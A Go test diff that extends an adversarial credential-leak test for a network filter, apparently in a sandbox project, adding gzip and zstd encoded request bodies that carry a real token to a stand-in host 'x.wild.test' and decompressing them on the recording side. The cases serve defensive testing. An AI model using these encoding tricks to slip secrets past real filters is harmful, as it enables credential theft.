@@ -1,6 +1,8 @@
 package netfilter
 
 import (
+	"bytes"
+	"compress/gzip"
 	"crypto/tls"
 	"encoding/base64"
 	"io"
@@ -9,6 +11,8 @@ import (
 	"strings"
 	"sync"
 	"testing"
+
+	"github.com/klauspost/compress/zstd"
 
 	"github.com/vibedom/vibedom/credentials"
 	"github.com/vibedom/vibedom/dlp"
@@ -40,7 +44,18 @@ func TestLoginSwapAdversarial(t *testing.T) {
 		var leaked []string
 		var tokenHits int
 		record := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-			b, _ := io.ReadAll(r.Body)
+			var body io.Reader = r.Body
+			switch r.Header.Get("Content-Encoding") {
+			case "gzip":
+				if zr, err := gzip.NewReader(r.Body); err == nil {
+					body = zr
+				}
+			case "zstd":
+				if zr, err := zstd.NewReader(r.Body); err == nil {
+					body = zr
+				}
+			}
+			b, _ := io.ReadAll(body)
 			var all strings.Builder
 			all.WriteString(r.URL.String())
 			for n, vs := range r.Header {
@@ -81,12 +96,26 @@ func TestLoginSwapAdversarial(t *testing.T) {
 		cred.real = append(cred.real, real2) // the host refreshed
 		cred.mu.Unlock()
 		c := &http.Client{Transport: v.guestTransport(false)}
+		gz := func(s string) string {
+			var b bytes.Buffer
+			w := gzip.NewWriter(&b)
+			io.WriteString(w, s)
+			w.Close()
+			return b.String()
+		}
+		zst := func(s string) string {
+			w, _ := zstd.NewWriter(nil)
+			defer w.Close()
+			return string(w.EncodeAll([]byte(s), nil))
+		}
 		b64 := base64.StdEncoding.EncodeToString([]byte(real2))
 		for _, r := range []struct{ name, url, hdr, body string }{
 			{"in a header to another host", "https://x.wild.test/h", "X-Leak: " + real2, "{}"},
 			{"in a query to another host", "https://x.wild.test/q?t=" + url.QueryEscape(real2), "", "{}"},
 			{"in a body to another host", "https://x.wild.test/b", "", `{"t":"` + real2 + `"}`},
 			{"base64 in a body to another host", "https://x.wild.test/b64", "", `{"t":"` + b64 + `"}`},
+			{"gzip body to another host", "https://x.wild.test/gz", "Content-Encoding: gzip", gz(`{"t":"` + real2 + `"}`)},
+			{"zstd body to another host", "https://x.wild.test/zst", "Content-Encoding: zstd", zst(`{"t":"` + real2 + `"}`)},
 			{"in a body to the API host", "https://api.test/v1/messages", "", `{"t":"` + real2 + `"}`},
 		} {
 			req, _ := http.NewRequestWithContext(t.Context(), "POST", r.url, strings.NewReader(r.body))
